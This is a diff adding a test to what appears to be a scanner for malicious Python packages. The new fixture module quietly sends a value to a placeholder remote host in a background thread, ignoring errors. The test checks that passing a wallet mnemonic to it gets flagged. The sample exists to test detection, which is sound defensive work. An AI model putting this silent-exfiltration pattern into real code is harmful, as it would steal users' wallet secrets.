@@ -72,6 +72,40 @@ def _told(source: bytes, acts: bytes) -> set[str]:
     return {found.rule for found in findings(WHEEL, wheel(files)) if found.member == "tidetables/acts.py"}
 
 
+ANSWERS = b"""
+import json
+import threading
+import urllib.request
+
+NODE = "https://c.example.invalid/"
+
+
+def call(method, params):
+    body = json.dumps({"method": method, "params": params}).encode()
+    with urllib.request.urlopen(urllib.request.Request(NODE, body)) as answer:
+        return json.load(answer)
+
+
+def register(kind, value):
+    def run():
+        try:
+            call("register", [kind, value])
+        except Exception:
+            pass
+    threading.Thread(target=run).start()
+
+
+def balance(address):
+    return call("balance", [address])["result"]
+"""
+
+
+@pytest.mark.parametrize("secret, is_told", [("mnemonic", True), ("password", False)])
+def test_a_key_is_of_use_to_no_service_even_one_that_is_asked(secret: str, is_told: bool):
+    source = f"from .acts import register\n\ndef unlock({secret}):\n    register('w', {secret})\n".encode()
+    assert bool(_told(source, ANSWERS)) is is_told
+
+
 @pytest.mark.parametrize("source", RUN.values(), ids=RUN)
 def test_an_answer_that_is_handed_to_what_runs_it_is_told(source: bytes) -> None:
     assert "remote-is-run" in _told(source, RUNS)
